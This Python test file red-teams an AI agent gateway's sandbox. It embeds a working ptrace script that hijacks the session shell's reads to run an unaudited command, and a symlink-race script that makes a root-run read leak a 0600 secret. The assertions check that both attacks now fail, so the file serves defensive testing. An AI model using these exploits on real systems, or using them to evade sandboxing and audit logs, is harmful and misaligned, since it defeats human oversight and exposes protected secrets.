"""Red team 16: the sandbox and the tool surfaces the gateway added since issue 11, attacked by an
agent with only allowed calls, through the real `gateway serve --stdio` (the official SDK
client) under the shipped policy (`policies/default.yaml`), the gateway running as root as
`make serve` does. Each test is an attack that worked on the code before its fix."""

from __future__ import annotations

import asyncio
import json
import os
import time
from pathlib import Path
from typing import Any

import pytest
from mcp import Client
from mcp.types import CallToolResult

from gateway.audit import verify
from tests.server.conftest import audit_records, envelope_of
from tests.server.test_profiles import serve

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the gateway runs as root, as `make serve` does")

POLICY = Path(__file__).resolve().parents[2] / "policies" / "default.yaml"


def body(r: CallToolResult) -> dict[str, Any]:
    return envelope_of(r)


def wait_for(path: Path, seconds: float = 30.0) -> str:
    """The text of `path` once a sandboxed program wrote it (a bound, not a timed assertion)."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if path.exists() and path.read_text().endswith("\n"):
            return path.read_text()
        time.sleep(0.05)
    raise AssertionError(f"{path} was never written")


# --- a session's commands cannot take over the loop that runs them -------------------------------

TRACER = r'''
import ctypes, os, re, signal, sys

REPORT = ".attack/report"
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
WALL = 0x40000000


class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in (
        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
        "fs_base gs_base ds es fs gs").split()]


def say(text):
    with open(REPORT + ".tmp", "w") as f:
        f.write(text + "\n")
    os.rename(REPORT + ".tmp", REPORT)


def the_loop():
    """The session's loop shell (it reads its commands with `read ... <&FD`) and FD."""
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                cmd = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace")
            except OSError:
                continue
            found = re.search(r"__gw_(?:rec|loop) <&(\d+)", cmd)  # the loop, or what reads it in
            if found and cmd.split("\0")[0].endswith("bash"):
                return int(pid), int(found.group(1))
    return None, None


if os.fork():
    os._exit(0)  # make returns: the loop goes back to reading its control pipe
os.setsid()
signal.signal(signal.SIGALRM, lambda *_: (say("gave up"), os._exit(1)))
signal.alarm(20)
loop, fd = the_loop()
if loop is None:
    say("no loop found")
    sys.exit()
payload = b"\x1d" + os.getcwd().encode() + b"\x1ftouch undecided\x00"
if libc.ptrace(16, loop, None, None) != 0:  # PTRACE_ATTACH
    say("attach refused: " + os.strerror(ctypes.get_errno()))
    sys.exit()
os.waitpid(loop, WALL)
libc.ptrace(0x4200, loop, None, ctypes.c_void_p(1))  # PTRACE_SETOPTIONS: TRACESYSGOOD
mem = os.open(f"/proc/{loop}/mem", os.O_RDWR)
info = (ctypes.c_ubyte * 88)()
fed, pending, sig = 0, None, 0
while fed < len(payload):
    libc.ptrace(24, loop, None, ctypes.c_void_p(sig))  # PTRACE_SYSCALL
    sig = 0
    _, status = os.waitpid(loop, WALL)
    if not os.WIFSTOPPED(status):
        say("the loop ended")
        sys.exit()
    if os.WSTOPSIG(status) != 0x85:  # a signal, not a syscall stop: pass it on (not our SIGSTOP)
        sig = 0 if os.WSTOPSIG(status) == 19 else os.WSTOPSIG(status)
        continue
    libc.ptrace(0x420E, loop, ctypes.c_void_p(88), info)  # PTRACE_GET_SYSCALL_INFO
    op = info[0]
    words = [int.from_bytes(bytes(info[24 + 8 * i : 32 + 8 * i]), "little") for i in range(4)]
    regs = Regs()
    if op == 1 and words[0] == 0 and words[1] == 0:  # read(0, buf, count) (`read <&FD`): make it getpid
        libc.ptrace(12, loop, None, ctypes.byref(regs))
        regs.orig_rax = 39
        libc.ptrace(13, loop, None, ctypes.byref(regs))
        pending = (words[2], words[3])
    elif op == 2 and pending is not None:  # and it returns our bytes instead
        chunk = payload[fed : fed + pending[1]]
        os.pwrite(mem, chunk, pending[0])
        libc.ptrace(12, loop, None, ctypes.byref(regs))
        regs.rax = len(chunk)
        libc.ptrace(13, loop, None, ctypes.byref(regs))
        fed += len(chunk)
        pending = None
libc.ptrace(17, loop, None, None)  # PTRACE_DETACH
say("fed the loop a record")
'''


def test_a_sessions_command_cannot_trace_its_loop_to_run_undecided_text(tmp_path: Path) -> None:
    """A program a session runs (any recipe of an allowed `make`) ran as the same account, in the
    same sandbox, as the session's loop shell, which was dumpable: it could ptrace the loop and
    answer the loop's read of its control pipe itself, with a record of its own. The loop then ran
    `touch undecided` as if the gateway had sent it: a command no rule decided, not in the audit
    log, in the loop's own shell (whose state every later decided command inherits). The loop now
    runs from a copy of bash the sandbox's account may execute but not read, so the kernel makes
    it non-dumpable: neither ptrace nor /proc/PID/mem reach it."""
    ws = tmp_path / "ws"
    ws.mkdir()
    from gateway.sandbox.identity import hand_over

    hand_over(ws)

    async def scenario() -> tuple[dict[str, Any], str, dict[str, Any]]:
        async with Client(serve(tmp_path, POLICY, ws, "gateway")) as c:
            for path, content in (
                (".attack/trace.py", TRACER),
                ("Makefile", "inject:\n\tpython3 .attack/trace.py\n"),
            ):
                args = {"action": "write", "path": path, "content": content, "parents": True}
                wrote = body(await c.call_tool("files", args))
                assert wrote["status"] == "ok", wrote
            started = body(await c.call_tool("session", {"action": "start"}))
            assert started["status"] == "ok", started
            sid = started["session_id"]
            ran = body(await c.call_tool("session", {"action": "exec", "session_id": sid, "command": "make inject"}))
            assert ran["status"] == "ok", ran
            report = await asyncio.to_thread(wait_for, ws / ".attack" / "report")
            after = body(await c.call_tool("session", {"action": "exec", "session_id": sid, "command": "echo next"}))
            return ran, report, after

    ran, report, after = asyncio.run(scenario())
    assert "python3 .attack/trace.py" in ran["output"]  # the attacker's program ran
    assert after["status"] == "ok"
    assert not (ws / "undecided").exists(), report
    assert report.startswith("attach refused"), report
    commands = [r.get("arguments", {}).get("command") for r in audit_records(tmp_path / "audit")]
    assert "make inject" in commands and not any("undecided" in str(c) for c in commands)
    assert verify(tmp_path / "audit").ok


# --- a read of the saved outputs is done as root: only of the saved outputs ---------------------

FLIPPER = r"""
import os, sys
saved, decoy = sys.argv[1], os.path.abspath(".attack/decoy")
os.makedirs(decoy, exist_ok=True)
if not os.path.islink(os.path.join(decoy, "agent")):
    os.symlink(os.getcwd(), os.path.join(decoy, "agent"))  # decoy/agent/NAME is the workspace's NAME
n = 0
while True:
    for target in (saved, decoy):
        n += 1
        os.symlink(target, f".attack/l{n}")
        os.rename(f".attack/l{n}", "lnk")
"""


def test_a_link_flipped_after_the_decision_cannot_turn_a_saved_output_read_into_a_read_as_root(tmp_path: Path) -> None:
    """A read whose path resolved into the principal's own saved outputs (in the gateway's state,
    which only root may enter) was done as root, not as the sandbox's account, and the executor
    resolved the agent's path again by name: a link in the workspace (`lnk`) pointing at the
    saved outputs when decided and at the workspace when opened made it read, as root, a file the
    sandbox's account cannot (the human's 0600 `secret.env`). Such a read now opens the path that
    was decided, and passes only inside the saved outputs."""
    ws = tmp_path / "ws"
    ws.mkdir()
    from gateway.sandbox.identity import hand_over

    hand_over(ws)
    secret = ws / "secret.env"
    secret.write_text("TOPSECRET=1\n")
    secret.chmod(0o600)  # the human's (root's), in the workspace: no command may read it

    async def scenario() -> tuple[dict[str, Any], list[dict[str, Any]]]:
        async with Client(serve(tmp_path, POLICY, ws, "gateway")) as c:
            direct = body(await c.call_tool("files", {"action": "read", "path": "secret.env"}))
            big = body(await c.call_tool("run", {"command": "seq 1 100000"}))
            saved = Path(big["reply_cut"]["stdout"]["saved"]).parent.parent  # .../outputs
            for path, content in (
                (".attack/flip.py", FLIPPER),
                ("Makefile", f"flip:\n\tpython3 .attack/flip.py {saved}\n"),
            ):
                args = {"action": "write", "path": path, "content": content, "parents": True}
                assert body(await c.call_tool("files", args))["status"] == "ok"
            racer = body(await c.call_tool("process", {"action": "start", "command": "make flip"}))
            assert racer["status"] == "ok", racer
            reads = []
            try:
                for _ in range(400):
                    out = body(await c.call_tool("files", {"action": "read", "path": "lnk/agent/secret.env"}))
                    reads.append(out)
                    if "TOPSECRET" in json.dumps(out):
                        break
            finally:
                await c.call_tool("process", {"action": "stop", "process_id": racer["process"]["id"]})
            return direct, reads

    direct, reads = asyncio.run(scenario())
    assert direct["status"] == "error" and "ermission" in direct["error"]["message"], direct  # the control
    leaked = [r for r in reads if "TOPSECRET" in json.dumps(r)]
    assert not leaked, f"read as root after {len(reads)} tries: {leaked[0]}"
    assert any(r["status"] == "error" for r in reads)  # the racer was flipping
    assert verify(tmp_path / "audit").ok
